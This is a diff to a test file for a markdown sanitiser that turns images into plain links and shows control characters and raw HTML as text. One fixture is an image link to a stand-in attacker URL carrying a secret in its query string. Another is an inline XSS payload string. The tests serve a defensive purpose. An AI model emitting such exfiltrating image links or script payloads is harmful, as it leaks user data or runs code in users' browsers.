@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from app.render import safe_markdown, visible_controls
+from app.render import safe_markdown, typed_markdown, visible_controls
 
 
 def test_control_characters_become_visible_symbols_and_newlines_are_normalised() -> None:
@@ -12,8 +12,8 @@ def test_control_characters_become_visible_symbols_and_newlines_are_normalised()
 
 def test_images_become_links_so_the_browser_fetches_nothing() -> None:
     text = "See ![chart](http://evil.example/leak?q=secret) and ![a](b)."
-    assert safe_markdown(text) == ("See [🖼 chart](http://evil.example/leak?q=secret) and "
-                                   "[🖼 a](b).")
+    assert safe_markdown(text) == ("See [image: chart](http://evil.example/leak?q=secret) and "
+                                   "[image: a](b).")
 
 
 def test_code_is_left_exactly_as_written() -> None:
@@ -23,13 +23,13 @@ def test_code_is_left_exactly_as_written() -> None:
     assert "`![x](y)`" in rendered  # inline code
     assert "```markdown\n![x](y)\n" in rendered  # fenced with backticks
     assert "~~~\n![x](y)\n~~~" in rendered  # fenced with tildes
-    assert rendered.endswith("after [🖼 x](y)")  # outside code again
+    assert rendered.endswith("after [image: x](y)")  # outside code again
     assert "\x00" not in rendered  # controls are shown even in code: they are not code
 
 
 def test_a_fence_closes_only_with_the_same_kind_and_at_least_its_length() -> None:
     text = "````\n```\n![x](y)\n````\n![x](y)"
-    assert safe_markdown(text) == "````\n```\n![x](y)\n````\n[🖼 x](y)"
+    assert safe_markdown(text) == "````\n```\n![x](y)\n````\n[image: x](y)"
 
 
 def test_an_unclosed_fence_keeps_the_rest_as_code_like_markdown_does() -> None:
@@ -37,7 +37,7 @@ def test_an_unclosed_fence_keeps_the_rest_as_code_like_markdown_does() -> None:
 
 
 def test_unmatched_backticks_do_not_hide_an_image() -> None:
-    assert safe_markdown("a ` b ![x](y)") == "a ` b [🖼 x](y)"
+    assert safe_markdown("a ` b ![x](y)") == "a ` b [image: x](y)"
 
 
 def test_raw_html_is_left_for_streamlit_to_show_as_text() -> None:
@@ -45,3 +45,9 @@ def test_raw_html_is_left_for_streamlit_to_show_as_text() -> None:
     # nothing); changing it here would show backslashes in the answer.
     text = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
     assert safe_markdown(text) == text
+
+
+def test_typed_text_keeps_its_line_breaks_but_code_is_untouched() -> None:
+    typed = "Dear model,\nplease read:\n\n```\ncode line\nnext\n```\nthanks\n![x](y)"
+    assert typed_markdown(typed) == ("Dear model,  \nplease read:\n\n```\ncode line\nnext\n"
+                                     "```\nthanks  \n[image: x](y)")
